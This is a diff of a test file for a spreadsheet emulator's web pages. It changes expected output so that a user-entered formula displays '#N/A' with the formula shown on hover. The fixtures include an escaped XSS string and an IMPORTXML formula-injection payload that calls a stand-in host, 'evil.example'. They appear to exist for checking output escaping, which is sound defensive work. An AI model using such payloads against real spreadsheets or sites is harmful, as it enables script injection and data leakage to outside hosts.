@@ -56,7 +56,7 @@ describe('spreadsheet pages', () => {
     );
     expect(((await formatted.json()) as { values: unknown[][] }).values).toEqual([
       ['order-1', '1500.5', SCRIPT, 'TRUE'],
-      ['order-2', '42', FORMULA],
+      ['order-2', '42', '#N/A'],
     ]);
 
     const index = await page('/_emulator/ui');
@@ -77,7 +77,8 @@ describe('spreadsheet pages', () => {
     const escapedScript = '&#60;script&#62;alert(1)&#60;/script&#62;';
     expect(sheet.text).toContain(`<td title="${escapedScript}">${escapedScript}</td>`);
     const escapedFormula = '=IMPORTXML(&#34;http://evil.example&#34;,&#34;//a&#34;)';
-    expect(sheet.text).toContain(`<td title="${escapedFormula}">${escapedFormula}</td>`);
+    // USER_ENTERED made it a formula: the page shows what Sheets would (#N/A), the formula on hover.
+    expect(sheet.text).toContain(`<td title="${escapedFormula}">#N/A</td>`);
     expect(sheet.text).toContain('Refunds');
     expect(sheet.text).toContain('<td title="-100 (number)">-100</td>');
     expect(sheet.text).not.toContain('<script>');
